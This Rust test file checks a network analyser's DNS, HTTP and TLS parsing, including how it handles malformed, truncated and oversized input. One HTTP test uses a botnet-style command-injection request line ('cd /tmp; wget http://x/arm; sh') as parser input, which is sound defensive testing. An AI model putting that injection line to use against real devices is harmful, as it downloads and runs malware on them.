//! The application layer on hand-built messages: DNS matching, HTTP framing, TLS hellos, and
//! hostile input that must be counted, never crash, never grow.

use std::net::{IpAddr, Ipv4Addr};

use simple_dns::rdata::{A, RData};
use simple_dns::{CLASS, Name, Packet, PacketFlag, Question, ResourceRecord, TYPE};

use super::*;
use crate::time::Timestamp;
use crate::wire::{Datagram, Endpoint, Side};

const CLIENT: Endpoint = Endpoint::new(IpAddr::V4(Ipv4Addr::new(10, 0, 0, 1)), 40000);
const SERVER: Endpoint = Endpoint::new(IpAddr::V4(Ipv4Addr::new(10, 0, 0, 53)), 53);
const WEB: Endpoint = Endpoint::new(IpAddr::V4(Ipv4Addr::new(10, 0, 0, 80)), 80);

fn on() -> AppLayer {
    AppLayer::new(AppConfig {
        enabled: true,
        ..AppConfig::default()
    })
}

fn at(ms: i64, frame: u64) -> At {
    At {
        ts: Timestamp(ms * 1_000_000),
        frame,
    }
}

fn dgram(ms: i64, frame: u64, src: Endpoint, dst: Endpoint) -> Datagram {
    Datagram {
        ts: Timestamp(ms * 1_000_000),
        frame,
        src,
        dst,
        declared: 0,
    }
}

fn query(id: u16, name: &str) -> Vec<u8> {
    let mut p = Packet::new_query(id);
    p.set_flags(PacketFlag::RECURSION_DESIRED);
    p.questions.push(Question::new(
        Name::new_unchecked(name),
        TYPE::A.into(),
        CLASS::IN.into(),
        false,
    ));
    p.build_bytes_vec().unwrap()
}

fn answer(id: u16, name: &str, addr: [u8; 4]) -> Vec<u8> {
    let mut p = Packet::new_reply(id);
    p.set_flags(PacketFlag::RECURSION_DESIRED | PacketFlag::RECURSION_AVAILABLE);
    p.questions.push(Question::new(
        Name::new_unchecked(name),
        TYPE::A.into(),
        CLASS::IN.into(),
        false,
    ));
    p.answers.push(ResourceRecord::new(
        Name::new_unchecked(name),
        CLASS::IN,
        300,
        RData::A(A {
            address: u32::from_be_bytes(addr),
        }),
    ));
    p.build_bytes_vec().unwrap()
}

fn records(app: &mut AppLayer) -> Vec<AppRecord> {
    app.take().collect()
}

fn dns(r: &AppRecord) -> &DnsRecord {
    match r {
        AppRecord::Dns(d) => d,
        other => panic!("not DNS: {other:?}"),
    }
}

fn http(r: &AppRecord) -> &HttpRecord {
    match r {
        AppRecord::Http(h) => h,
        other => panic!("not HTTP: {other:?}"),
    }
}

#[test]
fn a_query_is_matched_to_its_answer_and_a_repeat_is_counted() {
    let mut app = on();
    app.udp(&dgram(0, 1, CLIENT, SERVER), &query(7, "example.com"));
    app.udp(&dgram(1000, 2, CLIENT, SERVER), &query(7, "example.com"));
    assert!(!app.has_records());
    app.udp(
        &dgram(1030, 3, SERVER, CLIENT),
        &answer(7, "example.com", [93, 184, 216, 34]),
    );
    let out = records(&mut app);
    assert_eq!(out.len(), 1);
    let d = dns(&out[0]);
    assert_eq!(d.query.as_deref(), Some("example.com"));
    assert_eq!((d.qtype, d.rcode, d.trans_id), (Some(1), Some(0), 7));
    assert_eq!(d.answers, ["93.184.216.34"]);
    assert_eq!(d.ttls, [300]);
    assert_eq!((d.queries, d.responses, d.status()), (2, 1, "answered"));
    // Measured from the first query, as a client that retried waited.
    assert_eq!(d.rtt, Some(Duration::from_millis(1030)));
    assert_eq!((d.frame, d.response_frame), (1, Some(3)));
    assert!(d.flags.rd && d.flags.ra);
    assert_eq!((d.orig, d.resp), (CLIENT, SERVER));
}

#[test]
fn an_unanswered_query_is_written_after_its_timeout_and_an_answer_alone_too() {
    let mut app = on();
    app.udp(&dgram(0, 1, CLIENT, SERVER), &query(1, "lost.example"));
    app.advance(Timestamp(9_000_000_000));
    assert!(!app.has_records());
    app.advance(Timestamp(10_000_000_000));
    let out = records(&mut app);
    assert_eq!(dns(&out[0]).status(), "unanswered");
    app.udp(
        &dgram(20_000, 2, SERVER, CLIENT),
        &answer(2, "x.example", [1, 2, 3, 4]),
    );
    let out = records(&mut app);
    assert_eq!(dns(&out[0]).status(), "no_query");
    assert_eq!(dns(&out[0]).query.as_deref(), Some("x.example"));
    assert_eq!(dns(&out[0]).rtt, None);
}

#[test]
fn malformed_dns_is_counted_and_pending_queries_stay_bounded() {
    let mut app = AppLayer::new(AppConfig {
        enabled: true,
        max_pending_dns: 100,
        ..AppConfig::default()
    });
    for junk in [&b""[..], b"\x00", b"\x12\x34\x01\x00\x00\x01", &[0xff; 40]] {
        app.udp(&dgram(0, 1, CLIENT, SERVER), junk);
    }
    assert_eq!(app.stats().dns_malformed, 4);
    for i in 0..1000u16 {
        app.udp(
            &dgram(1, u64::from(i) + 2, CLIENT, SERVER),
            &query(i, "a.example"),
        );
    }
    assert_eq!(app.stats().dns_evicted, 900);
    assert_eq!(records(&mut app).len(), 900);
    app.finish();
    assert_eq!(records(&mut app).len(), 100);
}

#[test]
fn dns_over_tcp_is_framed_by_its_length_even_when_split() {
    let mut app = on();
    let c = ConnRef {
        id: 3,
        orig: CLIENT,
        resp: SERVER,
        rtt: None,
    };
    let q = query(9, "tcp.example");
    let mut framed = (q.len() as u16).to_be_bytes().to_vec();
    framed.extend_from_slice(&q);
    app.data(c, Side::Orig, at(0, 4), &framed[..5]);
    app.data(c, Side::Orig, at(1, 5), &framed[5..]);
    let a = answer(9, "tcp.example", [5, 6, 7, 8]);
    let mut framed = (a.len() as u16).to_be_bytes().to_vec();
    framed.extend_from_slice(&a);
    app.data(c, Side::Resp, at(20, 6), &framed);
    let out = records(&mut app);
    let d = dns(&out[0]);
    assert_eq!(d.transport, DnsTransport::Tcp);
    assert_eq!(d.conn_id, Some(3));
    assert_eq!(d.answers, ["5.6.7.8"]);
    assert_eq!(d.frame, 5);
}

fn web(id: u64) -> ConnRef {
    ConnRef {
        id,
        orig: CLIENT,
        resp: WEB,
        rtt: Some(Duration::from_millis(10)),
    }
}

#[test]
fn a_request_and_its_response_with_the_wait_split_by_the_round_trip() {
    let mut app = on();
    let c = web(1);
    app.data(c, Side::Orig, at(100, 4), b"GET /index.html HTTP/1.1\r\nHo");
    app.data(
        c,
        Side::Orig,
        at(101, 5),
        b"st: example.com\r\nUser-Agent: t/1\r\nCookie: JSESSIONID=abc123; theme=dark\r\n\r\n",
    );
    app.data(
        c,
        Side::Resp,
        at(151, 7),
        b"HTTP/1.1 200 OK\r\nContent-Length: 10\r\nSet-Cookie: sid=42; Path=/; Secure; HttpOnly; SameSite=Lax\r\n\r\n01234",
    );
    assert!(!app.has_records());
    app.data(c, Side::Resp, at(160, 8), b"56789");
    let out = records(&mut app);
    let h = http(&out[0]);
    assert_eq!(h.method.as_deref(), Some("GET"));
    assert_eq!(h.host.as_deref(), Some("example.com"));
    assert_eq!(h.uri.as_deref(), Some("/index.html"));
    assert_eq!(h.version.as_deref(), Some("1.1"));
    assert_eq!((h.status_code, h.response_body_len), (Some(200), 10));
    assert_eq!((h.frame, h.request_end.unwrap().frame), (4, 5));
    assert_eq!(h.response_start.unwrap().frame, 7);
    assert_eq!(h.response_end.unwrap().frame, 8);
    assert_eq!(h.ttfb(), Some(Duration::from_millis(50)));
    assert_eq!(h.server_time(), Some(Duration::from_millis(40)));
    let names: Vec<(&str, usize)> = h
        .cookies
        .iter()
        .map(|c| (c.name.as_str(), c.size))
        .collect();
    assert_eq!(names, [("JSESSIONID", 17), ("theme", 10)]);
    let s = &h.set_cookies[0];
    assert_eq!(s.name, "sid");
    assert!(s.attrs.secure && s.attrs.http_only);
    assert_eq!(s.attrs.path.as_deref(), Some("/"));
    assert_eq!(s.attrs.same_site.as_deref(), Some("Lax"));
}

#[test]
fn pipelined_requests_are_answered_in_order_with_chunked_and_bodiless_responses() {
    let mut app = on();
    let c = web(2);
    app.data(
        c,
        Side::Orig,
        at(0, 1),
        b"GET /a HTTP/1.1\r\nHost: h\r\n\r\nHEAD /b HTTP/1.1\r\nHost: h\r\n\r\nPOST /c HTTP/1.1\r\nHost: h\r\nContent-Length: 3\r\n\r\nxyz",
    );
    app.data(
        c,
        Side::Resp,
        at(10, 2),
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nabcd\r\n3;x=1\r\nefg\r\n0\r\n\r\n\
          HTTP/1.1 200 OK\r\nContent-Length: 99\r\n\r\n\
          HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n",
    );
    let out = records(&mut app);
    type Row<'a> = (u32, Option<&'a str>, Option<u16>, u64, u64);
    let got: Vec<Row> = out
        .iter()
        .map(http)
        .map(|h| {
            (
                h.trans_depth,
                h.uri.as_deref(),
                h.status_code,
                h.request_body_len,
                h.response_body_len,
            )
        })
        .collect();
    assert_eq!(
        got,
        [
            (1, Some("/a"), Some(200), 0, 7),
            (2, Some("/b"), Some(200), 0, 0),
            (3, Some("/c"), Some(201), 3, 0),
        ]
    );
}

#[test]
fn a_response_without_length_ends_with_the_connection_and_an_unanswered_request_is_kept() {
    let mut app = on();
    let c = web(3);
    app.data(c, Side::Orig, at(0, 1), b"GET / HTTP/1.0\r\n\r\n");
    app.data(c, Side::Resp, at(5, 2), b"HTTP/1.0 200 OK\r\n\r\nhello");
    app.data(c, Side::Resp, at(6, 3), b" world");
    app.close(3);
    let out = records(&mut app);
    let h = http(&out[0]);
    assert_eq!(h.response_body_len, 11);
    assert_eq!(h.response_end.unwrap().frame, 3);
    let c = web(4);
    app.data(
        c,
        Side::Orig,
        at(0, 1),
        b"GET /never HTTP/1.1\r\nHost: h\r\n\r\n",
    );
    app.close(4);
    let out = records(&mut app);
    assert_eq!(http(&out[0]).status_code, None);
    assert_eq!(http(&out[0]).uri.as_deref(), Some("/never"));
}

#[test]
fn a_hole_inside_a_body_of_known_length_keeps_the_framing() {
    let mut app = on();
    let c = web(5);
    app.data(
        c,
        Side::Orig,
        at(0, 1),
        b"GET /big HTTP/1.1\r\nHost: h\r\n\r\n",
    );
    app.data(
        c,
        Side::Resp,
        at(5, 2),
        b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n0123456789",
    );
    app.gap(5, Side::Resp, 80);
    app.data(c, Side::Resp, at(7, 4), b"0123456789");
    let out = records(&mut app);
    assert_eq!(http(&out[0]).response_end.unwrap().frame, 4);
    assert_eq!(app.stats().gap_bytes, 80);
}

#[test]
fn absurd_headers_and_garbage_are_given_up_and_counted() {
    let mut app = on();
    let c = web(6);
    app.data(c, Side::Orig, at(0, 1), b"GET / HTTP/1.1\r\nX: ");
    let filler = vec![b'a'; 8192];
    for i in 0..20 {
        app.data(c, Side::Orig, at(i, 2 + i as u64), &filler);
    }
    let s = app.stats();
    assert_eq!((s.given_up, s.oversized), (1, 1));
    // Missing CRLFs: a request line that never ends is the same case; garbage after a
    // request is given up without a record.
    let c = web(7);
    app.data(
        c,
        Side::Orig,
        at(0, 1),
        b"GET / HTTP/1.1\r\nHost: h\r\n\r\n",
    );
    app.data(c, Side::Resp, at(1, 2), b"HTTP/1.1 abc\r\n\r\n");
    assert_eq!(app.stats().given_up, 2);
    app.finish();
    // The request is still reported, without a response.
    let out = records(&mut app);
    assert!(
        out.iter()
            .map(http)
            .any(|h| h.conn_id == 7 && h.status_code.is_none())
    );
}

/// A TLS record of `kind` carrying `body`.
fn tls_record(kind: u8, body: &[u8]) -> Vec<u8> {
    let mut r = vec![kind, 3, 1];
    r.extend_from_slice(&(body.len() as u16).to_be_bytes());
    r.extend_from_slice(body);
    r
}

/// A handshake message.
fn handshake(kind: u8, body: &[u8]) -> Vec<u8> {
    let mut m = vec![kind];
    m.extend_from_slice(&(body.len() as u32).to_be_bytes()[1..]);
    m.extend_from_slice(body);
    m
}

fn ext(kind: u16, body: &[u8]) -> Vec<u8> {
    let mut e = kind.to_be_bytes().to_vec();
    e.extend_from_slice(&(body.len() as u16).to_be_bytes());
    e.extend_from_slice(body);
    e
}

fn client_hello(name: &str) -> Vec<u8> {
    let mut b = vec![3, 3];
    b.extend_from_slice(&[7; 32]);
    b.push(0); // session id
    b.extend_from_slice(&[0, 4, 0x13, 0x01, 0x0a, 0x0a]); // ciphers (one GREASE)
    b.extend_from_slice(&[1, 0]); // compression
    let mut sni = ((name.len() + 3) as u16).to_be_bytes().to_vec();
    sni.push(0);
    sni.extend_from_slice(&(name.len() as u16).to_be_bytes());
    sni.extend_from_slice(name.as_bytes());
    let mut exts = ext(0, &sni);
    exts.extend(ext(
        16,
        &[
            0, 12, 2, b'h', b'2', 8, b'h', b't', b't', b'p', b'/', b'1', b'.', b'1',
        ],
    ));
    exts.extend(ext(43, &[6, 0x3a, 0x3a, 3, 4, 3, 3]));
    b.extend_from_slice(&(exts.len() as u16).to_be_bytes());
    b.extend(exts);
    tls_record(22, &handshake(1, &b))
}

fn server_hello() -> Vec<u8> {
    let mut b = vec![3, 3];
    b.extend_from_slice(&[9; 32]);
    b.push(0);
    b.extend_from_slice(&[0x13, 0x01, 0]);
    let exts = ext(43, &[3, 4]);
    b.extend_from_slice(&(exts.len() as u16).to_be_bytes());
    b.extend(exts);
    tls_record(22, &handshake(2, &b))
}

#[test]
fn a_tls_handshake_gives_its_names_versions_and_times() {
    let mut app = on();
    let c = ConnRef {
        id: 8,
        orig: CLIENT,
        resp: Endpoint::new(WEB.addr, 443),
        rtt: None,
    };
    let ch = client_hello("www.example.org");
    // The ClientHello split across two deliveries.
    app.data(c, Side::Orig, at(0, 4), &ch[..20]);
    app.data(c, Side::Orig, at(1, 5), &ch[20..]);
    app.data(c, Side::Resp, at(30, 6), &server_hello());
    app.data(c, Side::Resp, at(31, 7), &tls_record(23, &[0; 300]));
    assert!(!app.has_records());
    app.data(c, Side::Orig, at(60, 8), &tls_record(23, &[0; 50]));
    let out = records(&mut app);
    let AppRecord::Tls(t) = &out[0] else {
        panic!("{out:?}")
    };
    assert_eq!(t.server_name.as_deref(), Some("www.example.org"));
    assert_eq!(t.client_versions, [0x0304, 0x0303]);
    assert_eq!(t.client_alpn, ["h2", "http/1.1"]);
    assert_eq!((t.version, t.cipher), (Some(0x0304), Some(0x1301)));
    assert_eq!(cipher_name(0x1301), Some("TLS_AES_128_GCM_SHA256"));
    assert_eq!(t.frame, 5);
    assert_eq!(
        t.handshake_time(Side::Resp),
        Some(Duration::from_millis(30))
    );
    assert_eq!(
        t.handshake_time(Side::Orig),
        Some(Duration::from_millis(59))
    );
    assert!(t.established());
    // Nothing more is parsed on it.
    app.data(c, Side::Orig, at(70, 9), &[0xff; 100]);
    app.close(8);
    assert!(!app.has_records());
}

#[test]
fn truncated_and_absurd_tls_records_are_given_up() {
    let mut app = on();
    let c = ConnRef {
        id: 9,
        orig: CLIENT,
        resp: Endpoint::new(WEB.addr, 443),
        rtt: None,
    };
    let mut ch = client_hello("a.example");
    ch.truncate(30);
    app.data(c, Side::Orig, at(0, 1), &ch);
    // A record header claiming 60,000 bytes.
    app.data(c, Side::Resp, at(1, 2), &[22, 3, 3, 0xea, 0x60, 1, 2, 3]);
    assert_eq!(app.stats().given_up, 1);
    app.close(9);
    let out = records(&mut app);
    assert!(out.is_empty(), "{out:?}");
}

#[test]
fn a_hole_that_swallows_a_body_or_a_message_is_survived() {
    let mut app = on();
    let c = web(10);
    app.data(
        c,
        Side::Orig,
        at(0, 1),
        b"GET /1 HTTP/1.1\r\nHost: h\r\n\r\nGET /2 HTTP/1.1\r\nHost: h\r\n\r\nGET /3 HTTP/1.1\r\nHost: h\r\n\r\n",
    );
    // The first body is missing whole: it ends where the hole ends.
    app.data(
        c,
        Side::Resp,
        at(5, 2),
        b"HTTP/1.1 200 OK\r\nContent-Length: 50\r\n\r\n",
    );
    app.gap(10, Side::Resp, 50);
    // The second response is half lost: the direction waits for the next status line.
    app.data(c, Side::Resp, at(6, 4), b"HTTP/1.1 200 OK\r\nContent-Le");
    app.gap(10, Side::Resp, 30);
    app.data(c, Side::Resp, at(7, 6), b"ngth: 2\r\n\r\nok");
    app.data(
        c,
        Side::Resp,
        at(8, 7),
        b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
    );
    app.close(10);
    let out = records(&mut app);
    let got: Vec<(Option<&str>, Option<u16>)> = out
        .iter()
        .map(http)
        .map(|h| (h.uri.as_deref(), h.status_code))
        .collect();
    // /2's response was cut in its header block after its status line: it keeps the status
    // (as tshark shows it) and has no end; /3 gets the 404.
    assert_eq!(
        got,
        [
            (Some("/1"), Some(200)),
            (Some("/2"), Some(200)),
            (Some("/3"), Some(404))
        ]
    );
    assert_eq!(http(&out[1]).response_end, None);
}

#[test]
fn a_space_before_a_colon_does_not_lose_the_response() {
    let mut app = on();
    let c = web(11);
    app.data(
        c,
        Side::Orig,
        at(0, 1),
        b"GET / HTTP/1.1\r\nHost: h\r\n\r\n",
    );
    app.data(
        c,
        Side::Resp,
        at(1, 2),
        b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Credentials : true\r\nContent-Length: 2\r\n\r\nok",
    );
    let out = records(&mut app);
    assert_eq!(http(&out[0]).response_body_len, 2);
}

#[test]
fn an_sslv2_format_client_hello_opens_a_tls_handshake() {
    let mut app = on();
    let c = ConnRef {
        id: 12,
        orig: CLIENT,
        resp: Endpoint::new(WEB.addr, 443),
        rtt: None,
    };
    // Length 3+6+3 = 12: type 1, version 3.1, cipher-spec length 3, session 0, challenge 0...
    let mut v2 = vec![0x80, 0, 1, 3, 1, 0, 3, 0, 0, 0, 0, 0, 0, 0x2f];
    v2[1] = (v2.len() - 2) as u8;
    app.data(c, Side::Orig, at(0, 1), &v2);
    app.data(c, Side::Resp, at(10, 2), &server_hello());
    app.close(12);
    let out = records(&mut app);
    let AppRecord::Tls(t) = &out[0] else {
        panic!("{out:?}")
    };
    assert_eq!(t.client_versions, [0x0301]);
    assert_eq!(t.version, Some(0x0304));
}

#[test]
fn a_server_answering_http_to_something_else_is_still_read() {
    let mut app = on();
    let c = web(13);
    app.data(c, Side::Orig, at(0, 1), b"request 0123456789\n");
    app.data(
        c,
        Side::Resp,
        at(1, 2),
        b"HTTP/1.0 400 Bad request\r\nContent-Length: 3\r\n\r\nbad",
    );
    let out = records(&mut app);
    let h = http(&out[0]);
    assert_eq!(
        (h.method.as_deref(), h.status_code, h.frame),
        (None, Some(400), 2)
    );
    // A keep-alive probe's byte first (a connection picked up midstream), then a request.
    let c = web(16);
    app.data(c, Side::Orig, at(0, 1), b"\x00");
    app.data(
        c,
        Side::Orig,
        at(1, 2),
        b"GET /ping HTTP/1.1\r\nHost: h\r\n\r\n",
    );
    app.data(c, Side::Resp, at(2, 3), b"HTTP/1.1 204 No Content\r\n\r\n");
    let out = records(&mut app);
    assert_eq!(http(&out[0]).uri.as_deref(), Some("/ping"));
    // Deliveries that never tell anything: after a few, nothing more is looked at.
    let c = web(14);
    let told: Vec<bool> = (0..10)
        .map(|i| app.data(c, Side::Orig, at(i, i as u64 + 1), b"\x00\x01garbage"))
        .collect();
    assert!(told[0] && !told[9], "{told:?}");
}

#[test]
fn a_request_cut_after_its_first_line_is_still_reported() {
    // The snaplen cut a request after "GET /x HTTP/1.1\r\nHo": the rest is a hole.
    let mut app = on();
    let c = web(15);
    app.data(c, Side::Orig, at(0, 1), b"GET /x HTTP/1.1\r\nHo");
    app.gap(15, Side::Orig, 40);
    app.data(
        c,
        Side::Resp,
        at(1, 2),
        b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
    );
    let out = records(&mut app);
    let h = http(&out[0]);
    assert_eq!(
        (h.method.as_deref(), h.uri.as_deref()),
        (Some("GET"), Some("/x"))
    );
    assert_eq!(h.status_code, Some(200));
}

#[test]
fn a_request_line_with_a_space_in_its_target_is_read_as_tshark_reads_it() {
    let mut app = on();
    let c = web(17);
    app.data(
        c,
        Side::Orig,
        at(0, 1),
        b"GET /shell?cd+/tmp;wget+ http://x/arm;sh HTTP/1.1\r\nHost: h\r\nUser-Agent: bot\r\n\r\n",
    );
    app.close(17);
    let out = records(&mut app);
    let h = http(&out[0]);
    assert_eq!(h.uri.as_deref(), Some("/shell?cd+/tmp;wget+"));
    assert_eq!(
        (h.version.as_deref(), h.host.as_deref()),
        (Some("1.1"), Some("h"))
    );
    assert_eq!(h.user_agent.as_deref(), Some("bot"));
}

#[test]
fn a_connection_picked_up_with_the_servers_segment_first_is_read_the_right_way_round() {
    let mut app = on();
    // The table named the server the originator: its segment came first, no SYN seen.
    let c = ConnRef {
        id: 18,
        orig: WEB,
        resp: CLIENT,
        rtt: None,
    };
    app.data(
        c,
        Side::Orig,
        at(0, 1),
        b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok",
    );
    app.data(
        c,
        Side::Resp,
        at(1, 2),
        b"GET /next HTTP/1.1\r\nHost: h\r\n\r\n",
    );
    app.data(
        c,
        Side::Orig,
        at(2, 3),
        b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
    );
    let out = records(&mut app);
    let got: Vec<(Option<&str>, Option<u16>)> = out
        .iter()
        .map(http)
        .map(|h| (h.uri.as_deref(), h.status_code))
        .collect();
    assert_eq!(got, [(None, Some(200)), (Some("/next"), Some(404))]);
    // Client and server as they really are.
    assert_eq!((http(&out[1]).orig, http(&out[1]).resp), (CLIENT, WEB));
}
